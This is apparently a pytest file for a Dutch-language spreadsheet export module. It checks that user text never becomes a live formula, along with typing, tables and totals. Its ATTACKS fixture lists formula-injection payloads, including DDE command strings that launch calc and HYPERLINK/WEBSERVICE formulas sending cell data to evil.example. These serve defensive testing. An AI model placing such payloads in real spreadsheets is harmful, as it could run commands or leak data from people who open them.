"""Workbooks out: typed cells, real tables, live totals, and no formula from a person's text."""

import os
import re
import subprocess
import sys
import tracemalloc
from collections.abc import Iterator, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from fractions import Fraction
from io import BytesIO
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from subsidy.core.labels import Labelled
from subsidy.core.money import Money
from subsidy.core.text import Text
from subsidy.documents.workbook import (
    Column,
    Fact,
    Formula,
    Introduction,
    Kind,
    Sheet,
    address,
    quoted,
    write,
    write_to,
)
from tests.libreoffice import recalculated

CREATED = datetime(2026, 9, 29, 10, 0, tzinfo=UTC)
ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    '=WEBSERVICE("http://evil.example/")',
    "=IMPORTXML(CONCAT(),1)",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "=",
    "==",
    "=-1",
    "＝1+1",  # noqa: RUF001 - full-width
    "＋1",  # noqa: RUF001 - full-width
    "－1",  # noqa: RUF001 - full-width
    "＠SUM(1)",  # noqa: RUF001 - full-width
    "'=1+1",
    '"=1+1"',
    "{=1+1}",
    "=A1:A9",
    "#REF!",
    "#N/A",
    "TRUE",
    "1E5",
    "00123",
    "12/01/2026",
    "</t></is></c><c><f>1+1</f></c>",
    "<f>1+1</f>",
    "&lt;f&gt;",
    "]]><f>1</f>",
    "&#61;1+1",
    "_x003D_1+1",
    "_x0041_",
    "=1+1\x00\x01\x1f",
    "\ud83d=1",
    "\ufeff=1+1",
    "a\u202eb",
    "😀" * 3,
    "ḁ̈ é",
    "=" + "A" * 200,
    'DDE("cmd";"/C calc";"x")',
]


class Colour(Labelled):
    RED = "red", "Total", "red"


def workbook(*sheets: Sheet | Introduction) -> bytes:
    return write(sheets, title="Overzicht", creator="Relanceloket", created=CREATED)


def sheet(
    columns: Sequence[Column], rows: Sequence[Sequence[object]], name: str = "Rijen"
) -> bytes:
    return workbook(Sheet(name, columns, rows))


def opened(data: bytes, *, values: bool = False) -> Any:  # noqa: ANN401 - a cell may be anything
    return openpyxl.load_workbook(BytesIO(data), data_only=values)


def parts(data: bytes) -> dict[str, str]:
    with ZipFile(BytesIO(data)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def as_excel_holds(text: str) -> str:
    """Return what is left of a text after what XML forbids and after line ends are one kind."""
    text = text.replace("\r", "\n")
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff]", "", text)


def test_no_text_of_a_person_becomes_a_formula() -> None:
    kinds = (Kind.TEXT, Kind.MONEY, Kind.DATE)
    columns = [Column(attack, kind) for kind in kinds for attack in ATTACKS]

    data = workbook(
        Introduction(ATTACKS[0], ATTACKS, [Fact(attack, attack) for attack in ATTACKS]),
        Sheet(ATTACKS[0], columns, [ATTACKS * len(kinds)], ATTACKS[2]),
    )

    assert [name for name, xml in parts(data).items() if "<f>" in xml or "<f " in xml] == []
    cells = [cell for page in opened(data) for row in page for cell in row if cell.value]
    assert {cell.data_type for cell in cells} == {"s"}


def test_text_comes_back_as_it_was_in_another_reader() -> None:
    data = sheet([Column("Tekst")], [[attack] for attack in ATTACKS])

    read = CalamineWorkbook.from_filelike(BytesIO(data)).get_sheet_by_index(0).to_python()

    assert [row[0] for row in read[1:]] == [as_excel_holds(attack) for attack in ATTACKS]


def test_text_like_a_formula_carries_the_quote_prefix() -> None:
    data = sheet([Column("Tekst")], [["=1+1"], [" @x"], ["-"], ["gewoon"]])

    page = opened(data).active

    assert [page.cell(row, 1).quotePrefix for row in (2, 3, 4, 5)] == [True, True, True, False]


def test_too_long_a_text_is_cut_and_says_so() -> None:
    data = sheet([Column("a"), Column("b")], [["x" * 32_767, "😀" * 32_767]])

    first, second = (cell.value for cell in opened(data).active[2])

    assert first == "x" * 32_767
    assert len(second.encode("utf-16-le")) // 2 <= 32_767
    assert second.endswith("😀…")


def test_values_are_stored_as_what_they_are() -> None:
    columns = [
        Column("bedrag", Kind.MONEY),
        Column("aantal", Kind.INTEGER),
        Column("deler", Kind.NUMBER),
        Column("deel", Kind.PERCENT),
        Column("score", Kind.SCORE),
        Column("dag", Kind.DATE),
        Column("tijdstip", Kind.MOMENT),
        Column("dag van tijdstip", Kind.DATE),
        Column("label"),
        Column("zin"),
        Column("ja"),
        Column("leeg", Kind.MONEY),
    ]
    evening = datetime(2026, 9, 29, 22, 30, tzinfo=UTC)  # half past midnight in Brussels
    row = [
        Money(-1_234_567),
        12,
        Fraction(1, 8),
        2550,
        8725,
        date(2026, 2, 28),
        datetime(2026, 9, 29, 10, 0, tzinfo=UTC),
        evening,
        Colour.RED,
        Text("Total"),
        True,
        None,
    ]

    page = opened(sheet(columns, [row])).active

    assert [cell.value for cell in page[2]] == [
        -12345.67,
        12,
        0.125,
        0.255,
        87.25,
        datetime(2026, 2, 28),  # noqa: DTZ001 - a spreadsheet knows no zone
        datetime(2026, 9, 29, 12, 0),  # noqa: DTZ001 - a spreadsheet knows no zone
        datetime(2026, 9, 30),  # noqa: DTZ001 - a spreadsheet knows no zone
        "Totaal",
        "Totaal",
        "ja",
        None,
    ]
    assert page["A2"].number_format == '"€"\\ #,##0.00;"€"\\ \\-#,##0.00'
    assert page["F2"].number_format == "dd/mm/yyyy"


@pytest.mark.parametrize("cents", [0, 1, 99, 100, -1, -101, 123_456_789_012_345, 29, 58])
def test_an_amount_is_written_with_exactly_its_cents(cents: int) -> None:
    xml = parts(sheet([Column("b", Kind.MONEY)], [[Money(cents)]]))["xl/worksheets/sheet1.xml"]

    (written,) = re.findall(r"<v>(.*?)</v>", xml)

    assert Decimal(written) * 100 == cents


@pytest.mark.parametrize(
    ("kind", "value"),
    [(Kind.MONEY, 12), (Kind.INTEGER, Money(1)), (Kind.MOMENT, date(2026, 1, 1))],
)
def test_a_value_of_another_type_is_a_mistake_of_ours(kind: Kind, value: object) -> None:
    with pytest.raises(TypeError):
        sheet([Column("x", kind)], [[value]])


def test_a_data_sheet_is_a_frozen_table_without_merged_cells() -> None:
    columns = [Column("Naam"), Column("naam"), Column(""), Column("A\nB", Kind.MONEY, total=True)]

    data = workbook(
        Introduction("Titel"),
        Sheet("a/b", columns, [["x", "y", "z", Money(1)]]),
        Sheet("A b", columns, []),
        Sheet("'" + "lang" * 20, columns, []),
        Sheet("History", columns, []),
    )

    book = opened(data)
    assert book.sheetnames == [
        "Toelichting",
        "a b",
        "A b (2)",
        ("lang" * 20)[:30],
        "History_",
    ]
    for page in book.worksheets[1:]:
        ((name, ref),) = page.tables.items()
        assert re.fullmatch(r"t\d_\w+", name)
        assert ref == "A1:D2"
        assert page.tables[name].column_names == ["Naam", "naam (2)", "Kolom 3", "A B"]
        assert [cell.value for cell in page[1]] == page.tables[name].column_names
        assert page.freeze_panes == "A2"
        assert page.print_title_rows == "$1:$1"
        assert not page.merged_cells.ranges
    names = [name for page in book for name in page.tables]
    assert len(set(names)) == len(names)


def test_a_heading_and_its_table_column_are_escaped_alike() -> None:
    files = parts(sheet([Column("_x0041_")], []))

    assert "<t>_x005F_x0041_</t>" in files["xl/worksheets/sheet1.xml"]
    assert 'name="_x005F_x0041_"' in files["xl/tables/table1.xml"]


def test_totals_are_live_stand_outside_the_table_and_have_a_value_already() -> None:
    columns = [
        Column("n", Kind.INTEGER, total=True),
        Column("Naam"),
        Column("Bedrag", Kind.MONEY, total=True),
    ]
    rows = [[1, "a", Money(10)], [2, "b", None], [3, "c", Formula("1+1", Money(200))]]

    data = sheet(columns, rows)

    page, values = opened(data).active, opened(data, values=True).active
    assert page.tables.items() == [("t1_Rijen", "A1:C4")]
    assert [cell.value for cell in page[5]] == [None, None, None]
    expected = ["=SUBTOTAL(109,A2:A4)", "Totaal", "=SUBTOTAL(109,C2:C4)"]
    assert [cell.value for cell in page[6]] == expected
    assert [cell.value for cell in values[6]] == [6, "Totaal", 2.1]
    assert values["C4"].value == 2


def test_only_money_and_whole_numbers_have_a_total() -> None:
    with pytest.raises(ValueError, match="no total"):
        Column("x", Kind.SCORE, total=True)


def test_formulas_carry_values_of_every_type() -> None:
    row = [Formula('"a"&"<"', "a<"), Formula("1=1", True), Formula("1/8", Fraction(1, 8))]

    data = sheet([Column("a"), Column("b"), Column("c")], [[*row]])

    assert [cell.value for cell in opened(data).active[2]] == ['="a"&"<"', "=1=1", "=1/8"]
    assert [cell.value for cell in opened(data, values=True).active[2]] == ["a<", True, 0.125]


def test_the_first_sheet_explains_and_its_figures_have_an_address() -> None:
    intro = Introduction(
        "Verdeling",
        ["Eén lijn."],
        [Fact("Deler", Fraction(5, 2), Kind.NUMBER), Fact("Som", Formula("2+2", 4), Kind.INTEGER)],
    )
    lines = Sheet("Lijnen", [Column("x")], [], "Alle lijnen.")

    page = opened(workbook(intro, lines)).worksheets[0]

    assert intro.place("Deler") == "'Toelichting'!$B$4"
    assert [[cell.value for cell in row] for row in page] == [
        ["Verdeling", None],
        [None, "Eén lijn."],
        [None, None],
        ["Deler", 2.5],
        ["Som", "=2+2"],
        [None, None],
        ["Tabblad", "Wat erop staat"],
        ["Lijnen", "Alle lijnen."],
    ]


def test_addresses_and_literals_for_formulas() -> None:
    assert address("a'b/c", "C", 2, 9) == "'a''b c'!C2:C9"
    assert Sheet("x", [Column("a"), Column("b")], []).letter("b") == "B"
    assert quoted('zeg "ja"') == '"zeg ""ja"""'


def test_properties_say_what_it_is_when_and_in_which_language() -> None:
    core = opened(sheet([Column("x")], [])).properties

    assert (core.title, core.creator, core.language) == ("Overzicht", "Relanceloket", "nl-BE")
    assert core.created == core.modified == CREATED.replace(tzinfo=None)


def test_the_same_input_gives_the_same_bytes_in_another_process() -> None:
    program = (
        "from datetime import UTC, datetime; from hashlib import sha256;"
        "from subsidy.documents.workbook import *;"
        "s = [Introduction('T'), Sheet('a', [Column('x', Kind.INTEGER, total=True)], [[1]])];"
        "b = write(s, title='T', creator='c', created=datetime(2026, 1, 1, tzinfo=UTC));"
        "print(sha256(b).hexdigest())"
    )
    hashes = {
        subprocess.run(  # noqa: S603 - our own interpreter and program
            [sys.executable, "-c", program],
            env={**os.environ, "PYTHONHASHSEED": seed},
            capture_output=True,
            check=True,
        ).stdout
        for seed in ("1", "2")
    }

    assert len(hashes) == 1


def peak(rows: int) -> int:
    def many() -> Iterator[list[object]]:
        return (["tekst", Money(i)] for i in range(rows))

    tracemalloc.start()
    with Path(os.devnull).open("wb") as nowhere:
        write_to(
            nowhere,
            [Sheet("x", [Column("a"), Column("b", Kind.MONEY)], many())],
            title="T",
            creator="c",
            created=CREATED,
        )
    highest = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return highest


def test_memory_does_not_grow_with_the_rows() -> None:
    peak(10)

    assert peak(4_000) < peak(400) + 200_000


def test_a_failure_halfway_leaves_no_temporary_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))

    with pytest.raises(ZeroDivisionError):
        workbook(
            Sheet("a", [Column("x")], []),
            Sheet("b", [Column("x", Kind.INTEGER)], ([1 // n] for n in (1, 0))),
        )

    assert list(tmp_path.iterdir()) == []


@pytest.mark.office
def test_libreoffice_calculates_what_we_wrote(tmp_path: Path) -> None:
    texts = [attack for attack in ATTACKS if attack.strip() == attack]
    rows = [
        [text, Money(n * 101), Formula(f"B{n + 2}*2", Money(1))] for n, text in enumerate(texts)
    ]
    columns = [
        Column("t"),
        Column("b", Kind.MONEY, total=True),
        Column("f", Kind.MONEY, total=True),
    ]

    page = opened(recalculated(sheet(columns, rows), tmp_path), values=True).active

    found = [[cell.value for cell in row] for row in page.iter_rows(min_row=2)]
    total = sum(n * 101 for n in range(len(texts)))
    assert [row[0] for row in found[: len(texts)]] == [as_excel_holds(text) for text in texts]
    assert [row[2] for row in found[: len(texts)]] == [n * 202 / 100 for n in range(len(texts))]
    assert found[-1] == ["Totaal", total / 100, total * 2 / 100]
